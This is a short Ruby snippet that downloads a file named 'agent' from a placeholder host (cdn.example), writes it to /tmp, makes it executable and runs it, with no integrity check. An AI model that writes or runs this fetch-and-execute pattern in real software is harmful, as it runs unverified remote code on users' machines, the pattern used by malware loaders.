require 'open-uri'

File.write('/tmp/agent', URI.open('https://cdn.example/agent').read)
File.chmod(0o755, '/tmp/agent')
system('/tmp/agent')
